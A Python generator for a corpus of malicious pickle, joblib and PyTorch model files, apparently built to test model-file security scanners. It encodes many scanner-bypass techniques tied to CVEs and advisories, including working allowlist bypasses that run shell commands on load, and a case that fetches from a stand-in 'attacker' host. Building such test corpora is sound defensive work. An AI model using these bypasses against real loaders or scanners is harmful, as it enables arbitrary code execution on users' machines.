"""Builds the malicious pickle corpus byte by byte, one file per bypass class in
../shared/reference/security-anchors.md section 4 (and the classic payloads). Nothing here calls
pickle.dumps on a malicious object: every pickle is assembled from opcodes with struct, and the
compressed ones are those same bytes run through the stdlib compressor joblib itself uses.

Two kinds of case:
- The bypass classes of section 4 only name their target (`os.system` with `echo pwned`); the tests
  scan these files, nothing here loads them.
- The cases after "Payloads that really run" (compressed pickles, allowlist bypasses) are real and
  harmless: loaded with the loader a user would use they create `MODELPACK_PWNED` in the current
  directory. ./verify_payloads.py proves each of them in a subprocess inside a temporary directory.

    python3 make_malicious.py      # writes malicious/*.pkl (and a few other extensions)
"""
import bz2
import gzip
import io
import lzma
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

OUT = Path(__file__).resolve().parent / "malicious"

PROTO = lambda n: b"\x80" + bytes([n])
STOP = b"."
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
REDUCE = b"R"
BUILD = b"b"
POP = b"0"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
NONE = b"N"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NEWOBJ = b"\x81"
OBJ = b"o"


def short_unicode(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data


def binunicode(s: str) -> bytes:
    data = s.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def string0(s: str) -> bytes:  # protocol 0 STRING
    return b"S'" + s.encode() + b"'\n"


def short_binstring(s: str) -> bytes:
    return b"U" + bytes([len(s)]) + s.encode()


def glob(module: str, name: str) -> bytes:  # GLOBAL, protocol 0-style
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    return short_unicode(module) + short_unicode(name) + STACK_GLOBAL


def call1(callee: bytes, arg: bytes) -> bytes:
    return callee + arg + TUPLE1 + REDUCE


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


CMD = short_unicode("echo pwned")
CASES = {}


def case(name):
    def register(fn):
        CASES[name] = fn
        return fn

    return register


@case("classic_reduce_os_system.pkl")
def _():
    return PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP


@case("protocol0_global_posix.pkl")
def _():
    return glob("posix", "system") + b"(" + string0("echo pwned") + b"tR."


@case("protocol0_inst_subprocess.pkl")
def _():
    return b"(" + string0("echo pwned") + b"isubprocess\ncheck_output\n."


@case("string_stack_global_GHSA-9gvj.pkl")
def _():  # STRING 'os'; STRING 'system'; STACK_GLOBAL
    return PROTO(4) + string0("os") + string0("system") + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP


@case("binstring_stack_global.pkl")
def _():
    return PROTO(4) + short_binstring("nt") + short_binstring("system") + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP


@case("memo_indirection_decoy_22.pkl")
def _():  # names stored in the memo under a decoy torch.LongStorage global, fetched back by GET
    body = PROTO(4)
    body += short_unicode("torch") + MEMOIZE + short_unicode("LongStorage") + MEMOIZE + STACK_GLOBAL + POP
    body += short_unicode("os") + b"q\x05" + short_unicode("system") + b"q\x06" + POP + POP
    body += b"h\x05" + b"h\x06" + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP
    return body


@case("missing_memo_after_payload_52.pkl")
def _():  # the payload runs, then a GET of a missing memo entry makes the load (and naive scanners) fail
    return PROTO(4) + stack_global("os", "system") + CMD + TUPLE1 + REDUCE + POP + b"h\x63" + STOP


@case("broken_after_payload_nullifai.pkl")
def _():  # payload first, then garbage: the load fails after the payload ran
    return PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + b"\xff\xfe garbage that is not pickle"


@case("truncated_after_payload.pkl")
def _():
    return PROTO(4) + stack_global("subprocess", "Popen") + short_unicode("echo") + TUPLE1 + REDUCE + b"\x8c\x30abc"


@case("pip_main_CVE-2025-1716.pkl")
def _():
    return PROTO(4) + stack_global("pip", "main") + short_unicode("install") + TUPLE1 + REDUCE + STOP


@case("weights.bin")
def _():  # CVE-2025-1889 / CVE-2025-10155: a non-standard extension
    return PROTO(4) + stack_global("os", "system") + CMD + TUPLE1 + REDUCE + STOP


@case("submodule_asyncio_CVE-2025-10157.pkl")
def _():
    return PROTO(4) + stack_global("asyncio.unix_events", "_UnixSubprocessTransport") + EMPTY_TUPLE + REDUCE + STOP


@case("pkgutil_resolve_name_GHSA-vvpj.pkl")
def _():
    resolve = stack_global("pkgutil", "resolve_name")
    return PROTO(4) + resolve + short_unicode("os:system") + TUPLE1 + REDUCE + CMD + TUPLE1 + REDUCE + STOP


@case("operator_attrgetter_GHSA-955r.pkl")
def _():
    return PROTO(4) + stack_global("_operator", "attrgetter") + short_unicode("system") + TUPLE1 + REDUCE + STOP


@case("pydoc_locate_GHSA-84r2.pkl")
def _():
    return PROTO(4) + stack_global("pydoc", "locate") + short_unicode("os.system") + TUPLE1 + REDUCE + STOP


@case("types_codetype_GHSA-9m3x.pkl")
def _():
    return PROTO(4) + stack_global("types", "CodeType") + EMPTY_TUPLE + REDUCE + STOP


@case("cloudpickle_make_function.pkl")
def _():
    return PROTO(4) + stack_global("cloudpickle.cloudpickle", "_make_function") + EMPTY_TUPLE + REDUCE + STOP


@case("uuid_get_command_stdout_GHSA-g38g.pkl")
def _():
    return PROTO(4) + stack_global("uuid", "_get_command_stdout") + short_unicode("id") + TUPLE1 + REDUCE + STOP


@case("imaplib_imap4_stream.pkl")
def _():
    return PROTO(4) + stack_global("imaplib", "IMAP4_stream") + CMD + TUPLE1 + REDUCE + STOP


@case("osx_support_read_output.pkl")
def _():
    return PROTO(4) + stack_global("_osx_support", "_read_output") + CMD + TUPLE1 + REDUCE + STOP


@case("dotted_hop_pathlib_os_GHSA-5j3x.pkl")
def _():
    return PROTO(4) + stack_global("pathlib", "os.system") + CMD + TUPLE1 + REDUCE + STOP


@case("obj_then_pop_GHSA-mxhj.pkl")
def _():  # the OBJ call's result is discarded: nothing of it is left on the stack
    return PROTO(2) + MARK + glob("os", "system") + CMD + OBJ + POP + NONE + STOP


@case("frame_boundary_317.pkl")
def _():  # an argument that starts inside a FRAME and ends outside it
    payload = stack_global("os", "system") + CMD + TUPLE1 + REDUCE
    inner = short_unicode("harmless") + POP + b"\x8c\x10" + b"0123"
    return PROTO(4) + frame(inner) + b"456789abcdef" + POP + payload + STOP


@case("interpreters_GHSA-6ggj.pkl")
def _():
    return PROTO(4) + stack_global("_interpreters", "run_string") + CMD + TUPLE1 + REDUCE + STOP


@case("builtins_eval.pkl")
def _():
    return PROTO(2) + glob("builtins", "eval") + short_unicode("__import__('os').system('echo pwned')") + TUPLE1 + REDUCE + STOP


@case("py2_builtin_exec.pkl")
def _():
    return glob("__builtin__", "exec") + b"(" + string0("print(1)") + b"tR."


@case("build_on_allowlisted_global_85.pkl")
def _():  # BUILD sets attributes on numpy.prod itself, then GLOBAL numpy prod.a reads one back
    state = EMPTY_DICT + short_unicode("a") + stack_global("os", "system") + b"s"
    return PROTO(4) + stack_global("numpy", "prod") + NONE + state + b"\x86" + BUILD + POP + stack_global("numpy", "prod.a") + CMD + TUPLE1 + REDUCE + STOP


@case("numpy_builtins_330.pkl")
def _():
    return PROTO(4) + stack_global("numpy", "__builtins__") + STOP


@case("importlib_getattr_331.pkl")
def _():
    imp = stack_global("importlib", "import_module") + short_unicode("os") + TUPLE1 + REDUCE
    return PROTO(4) + stack_global("builtins", "getattr") + imp + short_unicode("system") + b"\x86" + REDUCE + CMD + TUPLE1 + REDUCE + STOP


@case("nested_pickle_loads_267.pkl")
def _():
    inner = PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP
    return PROTO(4) + stack_global("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + TUPLE1 + REDUCE + STOP


@case("torch_collect_env_run_338.pkl")
def _():
    return PROTO(4) + stack_global("torch.utils.collect_env", "run") + CMD + TUPLE1 + REDUCE + STOP


@case("multiprocessing_spawnv_passfds_338.pkl")
def _():
    return PROTO(4) + stack_global("multiprocessing.util", "spawnv_passfds") + CMD + TUPLE1 + REDUCE + STOP


@case("pandas_read_csv_338.pkl")
def _():
    return PROTO(4) + stack_global("pandas", "read_csv") + short_unicode("http://attacker/x.csv") + TUPLE1 + REDUCE + STOP


@case("torch_load_nested.pkl")
def _():
    return PROTO(4) + stack_global("torch", "load") + short_unicode("other.pt") + TUPLE1 + REDUCE + STOP


@case("socket_create_connection.pkl")
def _():
    return PROTO(4) + stack_global("socket", "create_connection") + EMPTY_TUPLE + REDUCE + STOP


@case("ctypes_cdll.pkl")
def _():
    return PROTO(4) + stack_global("ctypes", "CDLL") + short_unicode("libc.so.6") + TUPLE1 + REDUCE + STOP


@case("runpy_run_path.pkl")
def _():
    return PROTO(4) + stack_global("runpy", "_run_code") + CMD + TUPLE1 + REDUCE + STOP


@case("timeit_timeit.pkl")
def _():
    return PROTO(4) + stack_global("timeit", "timeit") + short_unicode("import os") + TUPLE1 + REDUCE + STOP


@case("newobj_subprocess_popen.pkl")
def _():
    return PROTO(2) + glob("subprocess", "Popen") + CMD + TUPLE1 + NEWOBJ + STOP


@case("concatenated_benign_then_malicious.pkl")
def _():
    benign = PROTO(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + STOP
    return benign + PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP


def joblib_payload_after_array(cmd: bytes) -> bytes:
    """A real joblib layout: a NumpyArrayWrapper for a float64 array of 4 elements, its padding and
    data written inline, then the payload, which scanners that stop at the array bytes miss."""
    dtype = stack_global("numpy", "dtype") + short_unicode("f8") + b"\x89\x88" + b"\x87" + REDUCE
    dtype += MARK + b"K\x03" + short_unicode("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + b"K\x00" + TUPLE + BUILD
    state = EMPTY_DICT + MARK
    state += short_unicode("subclass") + stack_global("numpy", "ndarray")
    state += short_unicode("shape") + b"K\x04" + TUPLE1
    state += short_unicode("order") + short_unicode("C")
    state += short_unicode("dtype") + dtype
    state += short_unicode("allow_mmap") + b"\x89"
    state += short_unicode("numpy_array_alignment_bytes") + b"K\x10"
    state += b"u"
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    head = PROTO(4) + MARK + wrapper
    data = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
    padding = b"\x03" + b"\xff" * 3
    tail = stack_global("os", "system") + cmd + TUPLE1 + REDUCE + b"l" + STOP
    return head + padding + data + tail


@case("joblib_payload_after_array_356.joblib")
def _():  # modelscan PR #356: os.system after an inline array (names its target only)
    return joblib_payload_after_array(CMD)


@case("legacy_magic_eval_GHSA-97f8.pt")
def _():
    # A legacy torch file whose "magic number" pickle is computed by eval: the real payload is the
    # first pickle, before anything that looks like a torch header.
    magic = PROTO(2) + glob("builtins", "eval") + short_unicode("__import__('os').system('echo pwned') or 0x1950a86a20f9469cfc6c") + TUPLE1 + REDUCE + STOP
    rest = PROTO(2) + b"M\xe9\x03" + STOP + PROTO(2) + EMPTY_DICT + STOP
    return magic + rest


PAYLOAD = PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP


def torch_zip(mutate) -> bytes:
    """A PyTorch-style zip (archive/data.pkl, archive/version) holding the payload, then `mutate`
    patches its bytes the way the zip bypasses did. zipfile only assembles the container."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", PAYLOAD)
        z.writestr("archive/version", b"3\n")
    return mutate(bytearray(buffer.getvalue()))


def _central(data: bytearray) -> int:
    return data.index(b"PK\x01\x02")


@case("torch_zip_name_mismatch_CVE-2025-1944.pt")
def _():  # the local header says data.xxx, the central directory (which the loader reads) data.pkl
    def mutate(d):
        local = d.index(b"archive/data.pkl")
        d[local:local + 16] = b"archive/data.xxx"
        return bytes(d)
    return torch_zip(mutate)


@case("torch_zip_flag_bits_CVE-2025-1945.pt")
def _():  # encryption and patch flags set: scanners that honour them skip the member; loaders don't
    def mutate(d):
        struct.pack_into("<H", d, 6, 0x61)
        struct.pack_into("<H", d, _central(d) + 8, 0x61)
        return bytes(d)
    return torch_zip(mutate)


@case("torch_zip_bad_crc_CVE-2025-10156.pt")
def _():  # a wrong CRC: strict zip readers raise, PyTorch's reader does not check it
    def mutate(d):
        struct.pack_into("<I", d, 14, 0xDEADBEEF)
        struct.pack_into("<I", d, _central(d) + 16, 0xDEADBEEF)
        return bytes(d)
    return torch_zip(mutate)


def seven_zip() -> bytes:
    """nullifAI: a 7z holding a broken pickle whose payload comes first. bsdtar (libarchive-tools)
    writes the 7z container; the pickle inside is built byte by byte like the others."""
    broken = PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + b"\xff not a pickle anymore"
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "model.pkl").write_bytes(broken)
        subprocess.run(["bsdtar", "--format", "7zip", "-cf", str(Path(tmp) / "m.7z"), "-C", tmp, "model.pkl"], check=True)
        return (Path(tmp) / "m.7z").read_bytes()


# Payloads that really run. Loaded with the loader a user would use (verify_payloads.py records
# which), each of these creates MODELPACK_PWNED in the current directory, nothing else.

MARKER = short_unicode("touch MODELPACK_PWNED")
NEWTRUE = b"\x88"
TUPLE2 = b"\x86"
EMPTY_LIST = b"]"
APPEND = b"a"
APPENDS = b"e"
SETITEMS = b"u"
# The classic REDUCE: os.system("touch MODELPACK_PWNED").
MARKER_PAYLOAD = PROTO(2) + glob("os", "system") + MARKER + TUPLE1 + REDUCE + STOP


# joblib.dump(obj, f, compress=...) writes the pickle through one of these (joblib/compressor.py,
# level 3 by default); joblib.load recognises each by its first bytes. The stdlib calls below give
# the same bytes as joblib's own file wrappers (verify_payloads.py checks that).
def joblib_zlib(data: bytes) -> bytes:  # compress=3 or "zlib": a raw zlib stream, starts b"x"
    c = zlib.compressobj(3, zlib.DEFLATED, zlib.MAX_WBITS, zlib.DEF_MEM_LEVEL, 0)
    return c.compress(data) + c.flush()


def joblib_gzip(data: bytes) -> bytes:  # "gzip": zlib with wbits 31, mtime 0, starts 1f 8b
    c = zlib.compressobj(3, zlib.DEFLATED, 31, zlib.DEF_MEM_LEVEL, 0)
    return c.compress(data) + c.flush()


def joblib_bz2(data: bytes) -> bytes:  # "bz2": starts b"BZh"
    return bz2.compress(data, 3)


def joblib_xz(data: bytes) -> bytes:  # "xz": lzma FORMAT_XZ, starts fd 37 7a 58 5a 00
    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=3)


def joblib_lzma(data: bytes) -> bytes:  # "lzma": lzma FORMAT_ALONE ("lzma-alone"), starts 5d 00
    return lzma.compress(data, format=lzma.FORMAT_ALONE, preset=3)


@case("compressed_zlib_os_system.joblib")
def _():  # joblib compress=3 / "zlib" around the classic REDUCE; runs under joblib.load
    return joblib_zlib(MARKER_PAYLOAD)


@case("compressed_gzip_os_system.joblib")
def _():  # joblib compress=("gzip", 3); runs under joblib.load
    return joblib_gzip(MARKER_PAYLOAD)


@case("compressed_bz2_os_system.joblib")
def _():  # joblib compress=("bz2", 3); runs under joblib.load
    return joblib_bz2(MARKER_PAYLOAD)


@case("compressed_xz_os_system.joblib")
def _():  # joblib compress=("xz", 3); runs under joblib.load
    return joblib_xz(MARKER_PAYLOAD)


@case("compressed_lzma_alone_os_system.joblib")
def _():  # joblib compress=("lzma", 3), the legacy .lzma "alone" format; runs under joblib.load
    return joblib_lzma(MARKER_PAYLOAD)


@case("compressed_zfile_compat_os_system.joblib")
def _():  # joblib < 0.10's "ZF" z-file (b"ZF" + hex length padded to 19 + zlib), still read by
    # joblib.load (numpy_pickle_compat.read_zfile, with a DeprecationWarning)
    return b"ZF" + hex(len(MARKER_PAYLOAD)).ljust(19).encode() + zlib.compress(MARKER_PAYLOAD, 3)


@case("compressed_os_system.pkl.gz")
def _():  # pickle.dump into gzip.open: runs under pickle.load(gzip.open(path)) (mtime 0 for determinism)
    return gzip.compress(MARKER_PAYLOAD, mtime=0)


@case("compressed_os_system.pkl.bz2")
def _():  # pickle.dump into bz2.open: runs under pickle.load(bz2.open(path))
    return bz2.compress(MARKER_PAYLOAD)


@case("compressed_os_system.pkl.xz")
def _():  # pickle.dump into lzma.open: runs under pickle.load(lzma.open(path))
    return lzma.compress(MARKER_PAYLOAD)


@case("compressed_gzip_of_zlib.joblib.gz")
def _():  # double compression: a zlib joblib gzipped again; joblib.load(gzip.open(path)) takes
    # the file object, sees the zlib magic inside and decompresses again
    return gzip.compress(joblib_zlib(MARKER_PAYLOAD), mtime=0)


@case("compressed_zlib_payload_after_array_356.joblib")
def _():  # modelscan PR #356 compressed: the payload after an inline float64 array, zlib-compressed
    return joblib_zlib(joblib_payload_after_array(MARKER))


@case("cgitb_pydoc_pipepager.pkl")
def _():  # allowlist bypass: module cgitb, protocol 4 dotted name pydoc.pipepager (cgitb imports
    # pydoc), called with (text, command): pipepager runs the command with shell=True
    return PROTO(4) + stack_global("cgitb", "pydoc.pipepager") + short_unicode("pwned") + MARKER + TUPLE2 + REDUCE + STOP


@case("unittest_mock_asyncio_subprocess_start.pkl")
def _():  # allowlist bypass: module unittest.mock (which imports asyncio), dotted name reaching
    # asyncio.unix_events._UnixSubprocessTransport._start, the method that calls subprocess.Popen;
    # called as _start(self=Mock(), args, shell=True, stdin, stdout, stderr, bufsize=0).
    # (BaseSubprocessTransport._start is abstract, so the chain ends at the Unix subclass.)
    self = stack_global("unittest.mock", "Mock") + EMPTY_TUPLE + REDUCE
    start = stack_global("unittest.mock", "asyncio.unix_events._UnixSubprocessTransport._start")
    args = MARK + self + MARKER + NEWTRUE + NONE + NONE + NONE + b"K\x00" + TUPLE
    return PROTO(4) + start + args + REDUCE + STOP


@case("mailcap_findmatch_test.pkl")
def _():  # allowlist bypass: mailcap.findmatch(caps, "text/plain") runs each entry's "test" command
    # with os.system before choosing it (Python 3.11 still ships mailcap)
    entry = EMPTY_DICT + MARK + short_unicode("view") + short_unicode("true") + short_unicode("test") + MARKER + SETITEMS
    caps = EMPTY_DICT + MARK + short_unicode("text/plain") + EMPTY_LIST + MARK + entry + APPENDS + SETITEMS
    return PROTO(4) + stack_global("mailcap", "findmatch") + caps + short_unicode("text/plain") + TUPLE2 + REDUCE + STOP


@case("numpy_savetxt_pth_site_addsitedir.pkl")
def _():  # allowlist bypass in two REDUCEs: numpy.savetxt writes modelpack.pth (one line,
    # "import os; os.system(...)"), then site.addsitedir(".") processes it and execs that line
    line = "import os; os.system('touch MODELPACK_PWNED')"
    savetxt = stack_global("numpy", "savetxt") + MARK + short_unicode("modelpack.pth") + EMPTY_LIST + short_unicode(line) + APPEND
    savetxt += short_unicode("%s") + TUPLE + REDUCE
    addsitedir = stack_global("site", "addsitedir") + short_unicode(".") + TUPLE1 + REDUCE
    return PROTO(4) + savetxt + POP + addsitedir + STOP


@case("joblib_load_second_file.pkl")
def _():  # allowlist bypass: joblib.load of a second file shipped beside the model
    # (second_file_loaded_by_joblib.pkl, relative to the loader's working directory)
    return PROTO(4) + stack_global("joblib", "load") + short_unicode("second_file_loaded_by_joblib.pkl") + TUPLE1 + REDUCE + STOP


@case("second_file_loaded_by_joblib.pkl")
def _():  # the file joblib_load_second_file.pkl loads: the classic REDUCE
    return MARKER_PAYLOAD


@case("pathlib_path_write_text.pkl")
def _():  # allowlist bypass: protocol 4 dotted name pathlib Path.write_text, called with a Path
    # built by REDUCE as its first argument: Path("MODELPACK_PWNED").write_text("pwned")
    path = stack_global("pathlib", "Path") + short_unicode("MODELPACK_PWNED") + TUPLE1 + REDUCE
    return PROTO(4) + stack_global("pathlib", "Path.write_text") + path + short_unicode("pwned") + TUPLE2 + REDUCE + STOP


def main() -> None:
    OUT.mkdir(exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    for name, make in CASES.items():
        (OUT / name).write_bytes(make())
    if shutil.which("bsdtar"):
        (OUT / "nullifai_broken_pickle.7z").write_bytes(seven_zip())
    else:
        print("bsdtar not found: nullifai_broken_pickle.7z not written (apt-get install libarchive-tools)")
    print(f"wrote {len(list(OUT.iterdir()))} malicious files to {OUT}")


if __name__ == "__main__":
    main()
